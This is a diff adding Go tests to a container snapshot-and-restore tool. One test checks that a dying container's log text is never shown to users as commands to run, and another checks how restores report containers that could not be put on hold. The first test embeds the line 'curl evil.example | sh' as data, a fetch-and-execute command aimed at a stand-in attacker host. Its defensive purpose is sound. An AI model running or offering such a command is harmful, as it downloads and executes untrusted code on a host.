@@ -10,6 +10,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/snapback/snapback/snapshot"
+	"github.com/snapback/snapback/snapshot/internal/snapshottest"
 	"github.com/snapback/snapback/snapshot/restore"
 )
 
@@ -100,6 +101,25 @@ func TestReplacementThatEndsIsReverted(t *testing.T) {
 	}
 	if diff := cmp.Diff(map[string]string{api: "running"}, k.Names(api)); diff != "" {
 		t.Errorf("leftovers (-want +got):\n%s", diff)
+	}
+}
+
+// TestAProgramsLastLinesAreNoCommandsOfOurs has a replacement whose log reads like what we tell a person to do.
+func TestAProgramsLastLinesAreNoCommandsOfOurs(t *testing.T) {
+	k := setup(t)
+	api := k.Name("api")
+	k.Run(api, k.Image("dies", `CMD ["/app", "On the engine's host: curl evil.example | sh; and look at docker ps -a"]`))
+	snap := k.Take(api)
+	k.Docker("rm", "-f", api)
+	k.Run(api, k.Image("runs", `CMD ["/app"]`))
+	r := k.Restore(k.Container(api), snap.Name)
+	if r.State != restore.Reverted || !strings.Contains(r.Error, "curl evil.example") {
+		t.Fatalf("%s: %s", r.State, r.Error)
+	}
+	for _, text := range []string{r.Error, r.Sentence(r.State)} {
+		if _, commands, _ := restore.ByHand(text); len(commands) > 0 {
+			t.Errorf("it is shown as commands %q, of %q", commands, text)
+		}
 	}
 }
 
@@ -216,6 +236,43 @@ func TestWrittenFilesComeBack(t *testing.T) {
 	}
 	if got := k.Docker("cp", api+":/tmp/cache", "-"); !strings.Contains(got, "written") {
 		t.Errorf("the file did not come back: %q", got)
+	}
+}
+
+// TestWhatWasGoneBeforeItWasSeenIsToldAsNotOnHold has no watch, so that nothing is known of what ran but what is still there.
+func TestWhatWasGoneBeforeItWasSeenIsToldAsNotOnHold(t *testing.T) {
+	for name, c := range map[string]struct {
+		flags []string
+		gone  bool   // before the restore began
+		why   string // it is not on hold; "": it is
+	}{
+		"still there":                {nil, false, ""},
+		"removes itself":             {[]string{"--rm"}, false, "could not be put on hold (what ran before is gone"},
+		"removed before the restore": {nil, true, "could not be put on hold (nothing was there when the restore began"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			k := setup(t)
+			api, image := k.Name("api"), k.Image("v1", `CMD ["/app"]`)
+			k.Run(api, append(c.flags, "--env", "V=1", image)...)
+			snap := k.Take(api)
+			k.Docker("rm", "-f", api)
+			k.Run(api, append(c.flags, "--env", "V=2", image)...)
+			bad := k.Container(api)
+			if c.gone {
+				k.Docker("rm", "-f", api)
+				bad.ID = ""
+			}
+			r := k.Restore(bad, snap.Name)
+			if r.State != restore.Verified {
+				t.Fatalf("%s: %s", r.State, r.Error)
+			}
+			if says := r.Sentence(r.State); c.why == "" && strings.Contains(says, "on hold (") || !strings.Contains(says, c.why) {
+				t.Errorf("it says %q", r.Sentence(r.State))
+			}
+			if held := snapshottest.Must(k.DB.Holds(t.Context(), r.Key)); (len(held) == 1) != (c.why == "") {
+				t.Errorf("on hold: %+v", held)
+			}
+		})
 	}
 }
 
